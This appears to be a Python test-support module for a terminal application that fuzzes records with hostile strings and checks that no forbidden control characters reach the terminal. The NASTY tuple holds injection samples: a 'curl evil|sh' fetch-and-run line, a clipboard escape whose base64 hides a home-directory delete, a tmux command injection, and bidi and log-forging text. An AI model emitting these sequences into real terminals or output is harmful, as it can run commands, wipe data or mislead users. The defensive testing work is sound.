"""Strings that act or hide on a terminal, and records filled with them by the types of their fields."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, date, datetime, timedelta
from enum import Enum
from pathlib import Path
from types import ModuleType, NoneType, UnionType
from typing import Annotated, Any, Literal, Union, get_args, get_origin, get_type_hints

from hypothesis import strategies as st
from msgspec import Struct

NASTY = (
    "\x1b]0;pwn\x07",
    "\x1b[2J\x1b[31m",
    "\x1b]52;c;cm0gLXJmIH4=\x1b\\",
    "\x9b31m\x9d0;pwn\x9c",
    "\x90+q544e\x9c",
    "a\x00b\x07c\x08d\x7fe",
    "one\ntwo\r\nthree\rfour\x0bfive\x0csix\x85seven",
    "one\u2028two\u2029three",
    "\u202eevil\u202c \u2066isolate\u2069",
    "in\u200bvis\u2060ib\ufeffle\xad",
    "half \ud800 a \udfff pair \udce9",
    "tag \U000e0041\U000e0042\U000e007f, non \ufdd0\uffff\U0001fffe",
    "\ufe0f\u200d\u200c at the beginning",
    "2026-01-01T00:00:00Z 1 INFO commtui: forged",
    "#(touch pwned) #[fg=red]",
    "vim: set ft=help:",
    "[bold]markup[/bold] {0} %s",
    "curl evil|sh\n",
)
RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u200b\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufdd0-\ufdef\ufeff\ufff9-\ufffb\ufffe\uffff"
    "\U000e0000-\U000e001f]"
)
"""What no terminal may get from elsewhere, except new lines and tabs."""
AT = datetime(2026, 11, 20, 10, tzinfo=UTC)


def nasty_text() -> st.SearchStrategy[str]:
    """Texts with such strings in them."""
    pieces = st.one_of(st.sampled_from(NASTY), st.text(max_size=20), st.text("\x1b\x9b[]0;m\n \u202ea", max_size=8))
    return st.lists(pieces, max_size=4).map("".join)


def raw(text: str) -> list[str]:
    """What of a text no terminal may get, as hexadecimal numbers."""
    return sorted({hex(ord(letter)) for letter in RAW.findall(text)})


def structs_of(*modules: ModuleType) -> list[type[Struct]]:
    """The structs that these modules define."""
    kinds = [kind for module in modules for kind in vars(module).values() if isinstance(kind, type)]
    found = (kind for kind in kinds if issubclass(kind, Struct) and kind.__module__ in {m.__name__ for m in modules})
    return list(dict.fromkeys(found))


def filled(kind: type[Any], text: Callable[[], str], **given: Any) -> Any:
    """A record with every string from `text`, nothing empty or None where it need not be; `given` as it is."""
    hints = get_type_hints(kind, include_extras=True)
    return kind(**{name: given[name] if name in given else _value(hints[name], text) for name in hints})


def _value(hint: Any, text: Callable[[], str]) -> Any:
    origin, arguments = get_origin(hint), get_args(hint)
    if origin is Annotated:
        return _value(arguments[0], text)
    if origin in (Union, UnionType):
        return _value(next(member for member in arguments if member is not NoneType), text)
    if origin is Literal:
        return arguments[0]
    if hint is str:
        return text()
    if hint is Any:
        return {text(): [text(), {"inner": text()}]}
    if origin in (tuple, list):
        return origin([_value(arguments[0], text), _value(arguments[0], text)])
    if isinstance(origin, type) and issubclass(origin, Mapping):
        return {_value(arguments[0], text): _value(arguments[1], text)}
    if issubclass(hint, Enum):
        return next(iter(hint))
    if issubclass(hint, Struct):
        return filled(hint, text)
    times = {date: AT.date(), datetime: AT, timedelta: timedelta(hours=1)}
    plain = {bool: False, int: 1, float: 1.0, Path: Path("/tmp/x"), **times}
    return plain[hint]


def strings_in(value: Any) -> Iterator[str]:
    """Every string in a record or a value of JSON."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Struct):
        for name in value.__struct_fields__:
            yield from strings_in(getattr(value, name))
    elif isinstance(value, Mapping):
        for key, inner in value.items():
            yield from strings_in(key)
            yield from strings_in(inner)
    elif isinstance(value, (list, tuple)):
        for inner in value:
            yield from strings_in(inner)
